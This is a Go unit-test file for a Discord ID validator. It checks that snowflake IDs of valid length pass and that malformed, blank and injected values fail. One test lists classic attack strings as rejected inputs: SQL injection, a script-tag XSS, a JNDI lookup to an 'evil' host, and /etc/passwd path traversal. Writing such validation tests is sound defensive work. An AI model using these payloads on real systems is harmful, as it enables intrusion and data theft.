package services

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestValidateDiscordID_ValidSnowflakes(t *testing.T) {
	valid := []string{
		"1234567890",          // minimum length
		"123456789012345678",  // typical snowflake
		strings.Repeat("9", 100), // maximum length
	}

	for _, id := range valid {
		assert.NoError(t, validateDiscordID("guild_id", id), "expected %q to validate", id)
	}
}

func TestValidateDiscordID_RejectsMalformedInput(t *testing.T) {
	tests := []struct {
		name  string
		value string
	}{
		{"too short", "123456789"},
		{"too long", strings.Repeat("1", 101)},
		{"non-numeric", "abc123456789012345"},
		{"embedded space", "123456789 012345678"},
		{"negative number", "-123456789012345678"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := validateDiscordID("user_id", tt.value)
			require.Error(t, err)

			var validationErr *ValidationError
			require.ErrorAs(t, err, &validationErr)
			assert.Equal(t, "user_id", validationErr.Field)
			assert.Equal(t, "invalid user_id format", validationErr.Message)
		})
	}
}

func TestValidateDiscordID_RejectsInjectionAttempts(t *testing.T) {
	attempts := []string{
		"1 OR 1=1",
		"123'; DROP TABLE users; --",
		"<script>alert(1)</script>",
		"javascript:void(0)",
		"${jndi:ldap://evil}",
		"../../etc/passwd",
		"123456789012345678\x00",
	}

	for _, attempt := range attempts {
		err := validateDiscordID("guild_id", attempt)
		var validationErr *ValidationError
		require.ErrorAs(t, err, &validationErr, "expected %q to be rejected", attempt)
		assert.Equal(t, "guild_id", validationErr.Field)
	}
}

func TestValidateDiscordID_BlankIsRequired(t *testing.T) {
	for _, value := range []string{"", "   ", "\t"} {
		err := validateDiscordID("guild_id", value)
		var validationErr *ValidationError
		require.ErrorAs(t, err, &validationErr)
		assert.Equal(t, "guild_id is required", validationErr.Message)
	}
}

func TestValidateRequired(t *testing.T) {
	assert.NoError(t, validateRequired("username", "testuser"))

	err := validateRequired("username", "  ")
	var validationErr *ValidationError
	require.ErrorAs(t, err, &validationErr)
	assert.Equal(t, "username", validationErr.Field)
	assert.Equal(t, "username is required", validationErr.Message)
}
